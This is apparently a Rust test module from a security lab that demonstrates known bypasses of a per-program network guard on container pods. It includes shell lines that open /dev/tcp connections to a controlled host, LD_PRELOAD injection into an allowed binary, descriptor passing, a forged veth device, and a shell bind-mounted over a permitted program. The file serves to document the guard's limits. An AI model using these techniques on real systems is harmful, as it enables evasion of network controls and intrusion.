//! What the guard cannot tell, and the documentation says so.

use super::capture::Trace;
use super::frame::{self, hexadecimal};
use super::stage::{Outcome, Stage};
use super::tool::ATTACK;
use super::world::{ORDERS, REPORT, SHELL};

#[cfg(target_arch = "x86_64")]
fn connection(stage: &Stage) -> (Trace, String) {
    (Trace::From(stage.pod("web").v4(), ORDERS), format!("{}:{ORDERS}", stage.orders.v4()))
}

/// The connection is the allowed program's; what it becomes afterwards goes on with it.
pub fn exec_after_connect(stage: &Stage) -> Outcome {
    let tool = stage.tool();
    let script = format!("exec 30<>/dev/tcp/{}/{ORDERS}; exec {tool} {ATTACK} speak 30", stage.orders.v4());
    stage.at_orders(Trace::Marker, || stage.run("web:shell", &[SHELL, "-c", &script]))
}

/// A rule that names an interpreter allows every script.
pub fn interpreter(stage: &Stage) -> Outcome {
    let script = format!("echo palisade-attack >/dev/tcp/{}/{ORDERS}", stage.orders.v4());
    stage.at_orders(Trace::Marker, || stage.run("web:shell", &[SHELL, "-c", &script]))
}

#[cfg(target_arch = "x86_64")]
pub fn preload(stage: &Stage) -> Outcome {
    let (trace, target) = connection(stage);
    let script = format!("LD_PRELOAD=/tmp/object {REPORT} lab status");
    stage.at_orders(trace, || {
        let written = stage.attack("web:nginx", &["preload", "/tmp/object", &target]);
        written + &stage.run("web:nginx", &["sh", "-c", &script])
    })
}

#[cfg(target_arch = "x86_64")]
pub fn trace(stage: &Stage) -> Outcome {
    let (trace, target) = connection(stage);
    stage.at_orders(trace, || stage.attack("web:nginx", &["trace", REPORT, &target]))
}

/// A connected descriptor keeps its connector's identity, whoever holds it.
pub fn connected_passed(stage: &Stage) -> Outcome {
    let (tool, name) = (stage.tool(), format!("attack-{}", stage.number()));
    let script = format!("exec 30<>/dev/tcp/{}/{ORDERS}; exec {tool} {ATTACK} hold {name} 30", stage.orders.v4());
    stage.at_orders(Trace::Marker, || {
        let mut giver = stage.background_command("web:shell", &[SHELL, "-c", &script]);
        let said = stage.attack("web:shipper", &["take", &name, "-"]);
        let _ = giver.wait();
        said
    })
}

/// With one capability more than the default (NET_ADMIN) a pod makes a device of its own, by which it seems to be asked from
/// outside. Nothing on the node sees that, and who may come in is answered without a rule.
pub fn own_device(stage: &Stage) -> Outcome {
    let (pod, victim) = (stage.pod("router"), stage.watch_world());
    let (world, own) = (std::net::IpAddr::from([203, 0, 113, 1]), pod.v4());
    let script = "ip link add out type veth peer name in; ip link set out up; ip link set in up";
    let made = stage.run("batch/router", &["sh", "-c", script]);
    let packet = frame::ip(world, own, frame::UDP, &frame::udp(world, own, (5300, 4321), b"come in"));
    let frame = hexadecimal(&frame::ethernet([0xff; 6], pod.mac, frame::IPV4, &packet));
    let attack = ["answer-frame", "out", &frame, &format!("{own}:4321"), &format!("{world}:5300")];
    let outcome = stage.at(&victim, Trace::Marker, || stage.attack("batch/router", &attack));
    Outcome { said: made + &outcome.said, ..outcome }
}

/// With every capability a container puts another program of its image where the allowed one lies.
pub fn privileged(stage: &Stage) -> Outcome {
    let from = stage.pod("privileged").v4();
    let mounted = stage.run("privileged", &["mount", "--bind", SHELL, REPORT]);
    stage.restart_agent();
    let script = format!(": </dev/tcp/{}/{ORDERS}", stage.orders.v4());
    let outcome = stage.at_orders(Trace::From(from, ORDERS), || stage.run("privileged", &["bash", "-c", &script]));
    Outcome { said: mounted + &outcome.said, ..outcome }
}
